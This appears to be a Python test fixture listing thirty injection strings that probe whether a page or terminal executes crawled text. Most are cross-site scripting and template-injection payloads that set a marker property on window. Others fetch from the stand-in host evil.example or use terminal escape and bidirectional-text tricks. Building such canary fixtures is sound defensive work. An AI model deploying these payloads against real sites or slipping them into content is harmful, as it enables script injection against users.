"""Thirty strings that do harm where a page or a terminal takes crawled text for more than text.

Each that can run sets the property `TAINT` of `window`, each that can fetch asks `evil.example`; three are for
terminals and for the eye besides.
"""

TAINT = "seedbedPlanted"
"""Of `window`; what runs leaves its number there."""

_RUN = f"window.{TAINT}="

PLANTED: tuple[str, ...] = (
    f"<script>{_RUN}1</script>",
    f"<img src=x onerror={_RUN}2>",
    f'"><svg onload={_RUN}3>',
    f"' onmouseover='{_RUN}4' autofocus onfocus='{_RUN}4' x='",
    f"javascript:{_RUN}5",
    f"</title><script>{_RUN}6</script>",
    f"</textarea></select></option><script>{_RUN}7</script>",
    f"<iframe srcdoc='<script>parent.{_RUN}8</script>'></iframe>",
    f'<a href="javascript:{_RUN}9">look</a>',
    f"<body onload={_RUN}10>",
    f"<details open ontoggle={_RUN}11><summary>more</summary></details>",
    f"{{{{constructor.constructor('{_RUN}12')()}}}}",
    f"{{% set x = cycler.__init__.__globals__ %}}{{{{ x }}}}<script>{_RUN}13</script>",
    f"${{{_RUN}14}}",
    f"`+({_RUN}15)+`",
    f"--><script>{_RUN}16</script><!--",
    f"]]></script><script>{_RUN}17</script>",
    "<style>@import url(http://evil.example/18.css); * { background: url(http://evil.example/18.png) }</style>",
    "<link rel=stylesheet href=//evil.example/19.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}20'>",
    "<base href=//evil.example/><img src=21.png srcset='http://evil.example/21b.png 2x'>",
    f"<form action=//evil.example/><button autofocus onfocus={_RUN}22>go</button></form>",
    "<div hx-get='//evil.example/23' hx-trigger='load, every 1s'></div>",
    f"<div hx-on:htmx:load='{_RUN}24' hx-on::load='{_RUN}24' hx-vals='js:{{x: {_RUN}24}}' hx-trigger=load></div>",
    f"<object data='data:text/html,<script>top.{_RUN}25</script>'></object>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}26&gt;'>",
    f"\u202egnihton syas sihT\u202c\u2066<script>{_RUN}27</script>",
    f"\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b5m\x1b]8;;http://evil.example/28\x1b\\click\x1b]8;;\x1b\\<b onclick={_RUN}28>",
    f"&lt;script&gt;{_RUN}29&lt;/script&gt; &#x3C;img src=x onerror={_RUN}29&#x3E;",
    f"\r\x08\x08\x00<scr\x00ipt>{_RUN}30</script>\x1b[8m\x7f",
)
